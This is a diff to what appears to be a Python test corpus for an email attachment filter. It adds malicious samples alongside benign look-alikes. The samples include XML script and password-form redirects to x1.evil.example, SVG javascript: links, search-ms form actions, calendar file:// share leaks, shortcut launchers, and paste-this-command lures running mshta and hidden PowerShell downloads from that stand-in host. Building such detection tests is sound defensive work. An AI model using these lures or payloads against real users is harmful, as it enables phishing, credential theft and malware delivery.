@@ -182,8 +182,35 @@ def passwords():
         yield f"password: {words!r}", attached("x.zip", archive, "application/zip", words.format(PASSWORD))
 
 
+# --- what else browsers, Explorer, calendars and people do ---
+
+def calendar(line):
+    return ("BEGIN:VCALENDAR\r\nX-WR-CALNAME:x\r\nBEGIN:VEVENT\r\nUID:1\r\nSUMMARY:x\r\n" + line +
+            "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
+
+
+def habits():
+    space = 'xmlns:h="http://www.w3.org/1999/xhtml"'
+    yield "script in XML", attached("x.xml", f'<?xml version="1.0"?><r {space}><h:script>location.href="http://x1.evil.example/"</h:script></r>')
+    yield "form in XML", attached("x.xml", f'<r {space}><h:form action="http://x1.evil.example/"><h:input type="password"/></h:form></r>')
+    yield "script in an animation", attached("x.svg", '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" '
+                                             'values="javascript:alert(1)"/></a></svg>', "image/svg+xml")
+    yield "form of a program", shown('<form action="search-ms:query=x"><button>x</button></form>')
+    yield "button of a program", shown('<form><button formaction="search-ms:query=x">x</button></form>')
+    for line in [f'X-ALT-DESC;FMTTYPE=text/html:<img src="file://{HOST}/x/a.png">', f"IMAGE;VALUE=URI:file://{HOST}/x/a.png",
+                 f"ATTACH:file://{HOST}/x/a.png"]:
+        yield f"share in an invitation with X- fields: {line}", attached("x.ics", calendar(line), "text/calendar")
+    for target in ("C:\\Windows\\System32\\calc.exe", ".\\x.exe"):
+        yield f"shortcut to {target}", attached("x.zip", packed({"a.url": f"[InternetShortcut]\r\nURL=file:{target}\r\n".encode()}))
+    yield "folder that is none", attached("x.zip", packed({"docs.{00021400-0000-0000-C000-000000000046}/a.txt": b"x"}))
+    yield "command to paste", shown("To see the document press <b>Windows + R</b>, paste this and press Enter:<br>mshta http://x1.evil.example/a")
+    yield "command to paste, in Japanese", letter("Windowsキーを押しながらRを押し、次の文字列を貼り付けて実行してください。\n"
+                                                  "powershell -w hidden -c \"iwr http://x1.evil.example/a\"\n").as_bytes()
+    yield "command for Explorer", letter("Copy this into the address bar: powershell.exe -c calc # C:\\docs\\policy.docx").as_bytes()
+
+
 def tricks():
-    for group in (programs, documents, shares, links):
+    for group in (programs, documents, shares, links, habits):
         yield from group()
 
 
@@ -203,6 +230,9 @@ def near():
                 "https://www.partner.example/long\r\n-path", "https://www.partner.example/a?q=100%25", "https://日本語.example/",
                 "https://www.youtube.com/redirect?q=https%3A%2F%2Fwww.partner.example", "https://www.partner.example/@user"]:
         yield f"link: {url!r}", link(url)
+    yield "help desk", letter("Press Win+R, type msinfo32 and press Enter, then send us a copy of what you see.").as_bytes()
+    yield "invitation with X- fields", attached("x.ics", calendar("X-ALT-DESC;FMTTYPE=text/html:<p>hello</p>"), "text/calendar")
+    yield "XML with a page's vocabulary", attached("x.xml", '<r xmlns:h="http://www.w3.org/1999/xhtml"><h:p>hello</h:p></r>')
     yield "style with escapes", shown('<style>.a\\:b{content:"\\201C"}</style>')
     yield "photo of a card", attached("x.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nPHOTO;VALUE=URI:https://www.partner.example/a.png\r\nEND:VCARD\r\n")
     yield "document", attached("x.docx", corpus.docx(corpus.Maker("near")))
